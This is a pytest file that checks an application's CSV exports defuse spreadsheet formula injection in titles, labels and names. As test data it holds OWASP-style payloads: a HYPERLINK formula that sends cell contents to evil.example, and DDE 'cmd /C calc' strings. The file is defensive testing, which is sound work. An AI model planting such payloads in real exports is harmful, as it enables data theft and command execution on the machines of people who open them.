"""Every CSV written for people is safe to open in a spreadsheet (no formula injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa

from cxactions.auth.models import Role
from cxactions.foundations.csv_export import (
    csv_chunks,
    csv_text,
    frame_csv_text,
    safe_cell,
    safe_text,
)
from cxactions.foundations.extensions import db as _db
from cxactions.impact.services import ImpactSettings, refresh_impact
from cxactions.surveys.models import Metric
from cxactions.taxonomy.models import Challenge
from tests.drivers.test_drivers_cli import drivers, loaded  # noqa: F401
from tests.impact_world import build_world
from tests.paths import REPO
from tests.priorities.test_challenges_cli import challenges
from tests.priorities.test_priorities import add_signals, fixed_importance, import_world  # noqa: F401

PACKAGE = REPO / "cxactions"
# Titles as an attacker would type them (OWASP's CSV injection examples).
HOSTILE = {
    "SOL-GOOD": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "SOL-OK": "+cmd|' /C calc'!A0",
    "SOL-NULL": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SOL-FEW": "-2+3+cmd|' /C calc'!A0",
}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_text_cells_are_inert(rows: list[dict[str, str]], column: str) -> None:
    for row in rows:
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.25", "-0.25"),  # a negative number written as text stays a number
        ("+3", "+3"),
        ("-inf", "'-inf"),
        ("Plain title", "Plain title"),
        ("a=b", "a=b"),
        (-0.25, -0.25),
        (3, 3),
        (None, ""),
    ],
)
def test_cells_that_would_start_a_formula_are_made_text(value, written):
    assert safe_cell(value) == written


def test_csv_text_neutralises_header_and_cells_and_keeps_numbers():
    text = csv_text(["=name", "value"], [["=evil()", -1.5], ["ok", 2]])
    assert rows_of(text) == [
        {"'=name": "'=evil()", "value": "-1.5"},
        {"'=name": "ok", "value": "2"},
    ]


def test_frame_csv_keeps_numeric_columns_numeric_and_missing_cells_empty():
    import pandas as pd

    frame = pd.DataFrame({"title": ["=x", None, "-3"], "effect": [-0.5, float("nan"), 1.0]})
    assert rows_of(frame_csv_text(frame)) == [
        {"title": "'=x", "effect": "-0.500000"},
        {"title": "", "effect": ""},
        {"title": "-3", "effect": "1.000000"},
    ]


def test_no_module_writes_csv_except_the_one_writer():
    """One writer, used everywhere: a new export that bypasses it fails here."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "csv_export.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", source):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []


@pytest.fixture
def hostile_world(db):
    world = build_world()
    for code, title in HOSTILE.items():
        world.solutions[code].title = title
    db.session.commit()
    refresh_impact(db.session, ImpactSettings(), trigger="test")
    return world


def test_the_leaderboard_csv_neutralises_titles_and_keeps_negative_effects(
    hostile_world, client_as
):
    response = client_as(Role.STAFF).get("/impact.csv")
    assert response.status_code == 200
    rows = rows_of(response.get_data(as_text=True))
    titles = {row["solution_id"]: row["title"] for row in rows}
    assert titles["SOL-GOOD"] == "'" + HOSTILE["SOL-GOOD"]
    assert titles["SOL-OK"] == "'" + HOSTILE["SOL-OK"]
    assert titles["SOL-FEW"] == "'" + HOSTILE["SOL-FEW"]
    assert_text_cells_are_inert(rows, "title")
    lows = [float(row["ci_low"]) for row in rows if row["ci_low"]]
    assert min(lows) < 0  # negative numbers are still numbers


def test_the_impact_command_csv_neutralises_titles(hostile_world, runner):
    result = runner.invoke(args=["impact", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout)
    assert {row["solution_id"]: row["title"] for row in rows}["SOL-OK"] == "'" + HOSTILE["SOL-OK"]
    assert_text_cells_are_inert(rows, "title")
    assert any(float(row["ci_low"]) < 0 for row in rows if row["ci_low"])


def test_the_drivers_command_csv_neutralises_labels(runner, loaded):  # noqa: F811
    _db.session.execute(sa.update(Metric).where(Metric.code == "staff_rating").values(label="=1+1"))
    _db.session.commit()
    rows = rows_of(drivers(runner, "--format", "csv"))
    assert {row["driver"]: row["label"] for row in rows}["staff_rating"] == "'=1+1"
    for row in rows:  # numbers, negative ones included, stay numbers
        float(row["beta"]), float(row["correlation"]), float(row["importance"])


def test_the_challenges_command_csv_neutralises_names(runner, tmp_path, fixed_importance):  # noqa: F811
    import_world(runner, tmp_path)
    add_signals()
    _db.session.execute(
        sa.update(Challenge).where(Challenge.code == "ST-GREET").values(name="@SUM(A1:A9)")
    )
    _db.session.commit()
    result = challenges(runner, "--unit", "S1", "--format", "csv")
    assert result.exit_code == 0, result.output
    names = {row["challenge_id"]: row["name"] for row in rows_of(result.stdout)}
    assert names["ST-GREET"] == "'@SUM(A1:A9)"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("+1", "'+1"),  # an owner's name is text even when it reads as a number
        ("-5", "'-5"),
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Marie Dupont", "Marie Dupont"),
        ("", ""),
        (None, ""),
    ],
)
def test_free_text_is_never_read_as_a_number_or_a_formula(typed, written):
    assert safe_text(typed) == written


def test_streamed_pieces_join_into_one_document():
    rows = [["=1", i] for i in range(2_500)]
    pieces = list(csv_chunks(["a", "b"], iter(rows), chunk_rows=1_000))
    assert len(pieces) == 3
    assert "".join(pieces) == csv_text(["a", "b"], rows)
    assert list(csv_chunks(["a"], iter([]))) == ["a\n"]
